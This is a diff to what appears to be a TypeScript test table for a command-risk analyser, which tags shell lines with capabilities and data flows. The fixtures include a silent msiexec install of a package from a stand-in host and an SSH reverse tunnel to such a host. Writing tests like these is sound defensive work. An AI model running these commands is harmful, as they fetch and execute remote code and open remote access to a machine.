@@ -22,8 +22,13 @@ const CASES: readonly Case[] = [
     starts: [String.raw`%TEMP%\u.exe`],
   },
   { line: 'certutil -hashfile u.exe SHA256', can: ['network'] },
-  { line: 'msiexec /q /i https://c.invalid/a.msi', can: ['network'], flows: ['remote-content->process'] },
-  { line: 'msiexec /i setup.msi' },
+  {
+    line: 'msiexec /q /i https://c.invalid/a.msi',
+    can: ['network', 'process'],
+    flows: ['remote-content->process'],
+    starts: ['msiexec /q /i https://c.invalid/a.msi'],
+  },
+  { line: 'msiexec /i setup.msi', can: ['process'], starts: ['msiexec /i setup.msi'] },
   { line: 'ssh -N -R 2222:localhost:22 u@c.invalid', can: ['network'], flows: ['remote-content->process'] },
   { line: 'ssh -N -L 2222:localhost:22 u@c.invalid', can: ['network'] },
   {
